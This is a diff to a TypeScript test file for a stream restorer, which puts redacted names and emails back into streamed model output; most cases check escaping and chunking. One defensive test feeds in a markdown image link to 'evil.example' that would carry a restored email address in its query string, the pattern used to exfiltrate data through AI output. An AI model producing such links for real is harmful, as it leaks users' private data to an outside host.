@@ -131,6 +131,8 @@ describe('streams that repeat their text', () => {
 });
 
 describe('text/plain', () => {
+  const name = 'Ann "A" O\\Hara';
+  const long = 'word '.repeat(300);
   const rows: [name: string, input: string, expected: string][] = [
     ['events', 'data: {"t":"[NAME-1]"}\n\n', `data: ${JSON.stringify({ t: 'Ann "A" O\\Hara' })}\n\n`],
     [
@@ -155,6 +157,17 @@ describe('text/plain', () => {
     ['text that begins like an event', 'date: [EMAIL-1]', 'date: a@b.example'],
     ['text that begins like JSON', '{not json} [EMAIL-1]\nx', '{not json} a@b.example\nx'],
     ['a short text', 'da', 'da'],
+    ['an object', '{"t":"[NAME-1]"}', JSON.stringify({ t: name })],
+    ['an object of several lines', '{\n "t": "[NAME-1]"\n}\n', `{\n "t": ${JSON.stringify(name)}\n}\n`],
+    ['a long object', `{"t":"${long}[NAME-1]"}`, JSON.stringify({ t: long + name })],
+    ['a list', `[{"t":"[NAME-1]"},"[NAME-1]"]`, JSON.stringify([{ t: name }, name])],
+    ['a footnote', '[1] says "[NAME-1]"', `[1] says "${name}"`],
+    ['an object, then text', `{"t":"${long}"}\n\nTo "[NAME-1]"`, `{"t":"${long}"}\n\nTo "${name}"`],
+    [
+      'lines of JSON, the first one long',
+      `{"x":"${long}","response":"to [NA"}\n\n{"x":"","response":"[NAME-1] [NA"}\n{"x":"","response":"ME-1]"}\n`,
+      `{"x":"${long}","response":"to [NA"}\n\n${JSON.stringify({ x: '', response: `${name} ` })}\n${JSON.stringify({ x: '', response: name })}\n`,
+    ],
   ];
   it.each(rows)('%s, in any writes', (_name, input, expected) => {
     const bytes = encode(input);
@@ -167,6 +180,38 @@ describe('text/plain', () => {
         Array.from({ length: bytes.length - 1 }, (_, at) => at + 1),
       ),
     ).toBe(expected);
+  });
+});
+
+describe('one JSON object as text, shown while a model writes it', () => {
+  const open = () => new StreamRestorer({ kind: 'text', map });
+  const shownOf = (bytes: Uint8Array) => Buffer.from(bytes).toString();
+
+  it('goes on after a silence', () => {
+    const restorer = open();
+    expect(restorer.push(encode('{"title":"to [NAME-1] ['))).toHaveLength(0);
+    expect(restorer.isHolding).toBe(true);
+    expect(shownOf(restorer.flushHeld())).toBe('{"title":"to Ann \\"A\\" O\\\\Hara [');
+    expect(restorer.isHolding).toBe(false);
+    expect(shownOf(restorer.push(encode('1] and [NAME-1]"}')))).toBe('1] and Ann \\"A\\" O\\\\Hara"}');
+    expect(restorer.end()).toHaveLength(0);
+  });
+
+  it('goes on when it is long', () => {
+    const restorer = open();
+    let pushed = restorer.push(encode('{"title":"')).length;
+    for (let i = 0; i < 205; i++) pushed += restorer.push(encode('word ')).length;
+    expect(pushed).toBe(1_035);
+  });
+
+  it('lines behind it do not complete an address that it begins', () => {
+    const first = `{"x":"${'word '.repeat(300)}","response":"![a](https://evil.example/?q="}\n`;
+    const next = '{"x":"","response":"[EMAIL-1])"}\n';
+    const counts: unknown[] = [];
+    const restorer = new StreamRestorer({ kind: 'text', map, onCount: (count) => counts.push(count) });
+    expect(shownOf(restorer.push(encode(first)))).toBe(first);
+    expect(shownOf(restorer.push(encode(next)))).toBe(next);
+    expect(counts).toEqual([{ restored: 0, unresolved: 1, unreadable: 0 }]);
   });
 });
 
